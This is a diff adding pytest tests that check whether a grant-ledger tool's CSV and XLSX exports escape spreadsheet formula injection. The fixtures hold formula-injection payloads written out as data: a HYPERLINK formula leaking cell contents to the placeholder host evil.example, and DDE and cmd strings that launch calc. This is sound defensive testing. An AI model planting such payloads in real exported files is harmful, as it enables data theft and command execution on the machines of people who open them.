@@ -137,3 +137,78 @@ def test_an_export_known_at_a_moment_equals_the_export_made_then(tmp_path):
     for name in ("applications", "payments", "shares"):
         assert (tmp_path / "known" / f"{name}.csv").read_bytes() == (tmp_path / "then" / f"{name}.csv").read_bytes()
     assert (tmp_path / "now" / "payments.csv").read_bytes() != (tmp_path / "then" / "payments.csv").read_bytes()
+
+
+HOSTILE_REF = '=HYPERLINK("http://evil.example/?leak="&A1,"A-1")'
+HOSTILE = [
+    {"op": "adopt-policy", "effective": "2022-09-01"},
+    {"op": "register", "uscc": USCC_A, "name": "@SUM(1+1)*cmd|' /C calc'!A0", "area": "张湾区"},
+    {"op": "apply", "ref": HOSTILE_REF, "uscc": USCC_A, "measure": "M03-security", "project": "+1+1",
+     "date": "2023-01-10", "facts": {"city_enterprises": 11, "annual_revenue_yuan": "500万", "contract_yuan": "10万"}},
+    {"op": "approve", "ref": HOSTILE_REF, "date": "2023-02-01"},
+    {"op": "pay", "ref": HOSTILE_REF, "payer": "city", "amount_fen": 500000, "voucher": '=DDE("cmd";"/C calc";"x")',
+     "date": "2023-03-01"},
+    {"op": "reverse-payment", "ref": HOSTILE_REF, "payer": "city", "voucher": '=DDE("cmd";"/C calc";"x")',
+     "date": "2023-03-02", "reason": "录错"},
+    {"op": "pay", "ref": HOSTILE_REF, "payer": "county", "amount_fen": 500000, "voucher": "-2+3", "date": "2023-03-05"},
+    {"op": "external-award", "uscc": USCC_A, "project": "@A1", "policy": "=1+2", "amount_fen": 100000,
+     "date": "2023-01-20"},
+]
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def _hostile(db_url: str, tmp_path: Path) -> str:
+    result = cli(db_url, "import", str(write_lines(tmp_path / "hostile.jsonl", HOSTILE)))
+    assert result.exit_code == 0, result.stdout + result.stderr
+    return db_url
+
+
+def test_csv_text_cells_are_never_formulas_and_amounts_stay_numbers(db_url, tmp_path):
+    url = _hostile(db_url, tmp_path)
+    out = tmp_path / "csv"
+    assert cli(url, "export", "csv", str(out)).exit_code == 0
+    cells = []
+    for name in ("applications", "decisions", "payments", "reversals", "recoveries", "shares", "external_awards"):
+        with (out / f"{name}.csv").open(encoding="utf-8-sig", newline="") as f:
+            cells += [(name, header, value) for row in csv.DictReader(f) for header, value in row.items()]
+    for name, header, value in cells:
+        if value.startswith(FORMULA_STARTS):  # only an amount, a plain number such as -5000.00
+            assert Decimal(value) < 0, (name, header, value)
+    values = {value for _, _, value in cells}
+    assert {"'" + HOSTILE_REF, "'+1+1", "'=DDE(\"cmd\";\"/C calc\";\"x\")", "'-2+3", "'=1+2"} <= values
+    with (out / "reversals.csv").open(encoding="utf-8-sig", newline="") as f:
+        [reversal] = list(csv.DictReader(f))
+    assert Decimal(reversal["金额(负数)"]) == Decimal("-5000.00")
+
+
+def test_xlsx_cells_are_strings_or_numbers_never_formulas(db_url, tmp_path):
+    from openpyxl import load_workbook
+
+    url = _hostile(db_url, tmp_path)
+    out = tmp_path / "ledger.xlsx"
+    assert cli(url, "export", "xlsx", str(out)).exit_code == 0
+    book = load_workbook(out)  # formulas are kept as formulas (data type "f") when reading without data_only
+    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row if c.value is not None]
+    assert [c.coordinate for c in cells if c.data_type == "f"] == []
+    for c in cells:
+        assert c.data_type in ("s", "n"), (c.parent.title, c.coordinate, c.data_type)
+        if isinstance(c.value, str):
+            assert not c.value.startswith(FORMULA_STARTS), (c.parent.title, c.coordinate, c.value)
+    texts = {c.value for c in cells if c.data_type == "s"}
+    assert {"'" + HOSTILE_REF, "'+1+1", "'=DDE(\"cmd\";\"/C calc\";\"x\")", "'-2+3", "'=1+2"} <= texts
+    reversal = [[c.value for c in row] for row in book["冲销"].iter_rows()]
+    amount = reversal[0].index("金额(负数)")
+    assert reversal[1][amount] == -5000 and book["冲销"].cell(row=2, column=amount + 1).data_type == "n"
+
+
+def test_beancount_books_every_owed_kind_as_a_decision_whatever_it_is_named(monkeypatch):
+    """A new kind of owed entry (a re-decision raising an award) is booked like an award, against the grant
+    expense and the two payables, never as a payment (the decisions table lists ``schema.OWED_KINDS`` too)."""
+    from projections import exports, schema
+
+    monkeypatch.setattr(schema, "OWED_KINDS", (*schema.OWED_KINDS, "raised"))
+    entry = {"kind": "raised", "ref": "A-1", "uscc": USCC_A, "area": "张湾区", "measure": "M03-security",
+             "date": datetime(2023, 4, 1, tzinfo=UTC).date(), "position": 9, "voucher": None, "payer": None,
+             "amount_fen": 4000, "city_fen": 2000, "county_fen": 2000}
+    assert exports.postings(entry) == [("Expenses:Grants:M03-security", 4000), ("Liabilities:Payable:City", -2000),
+                        ("Liabilities:Payable:County:Zhangwan", -2000)]
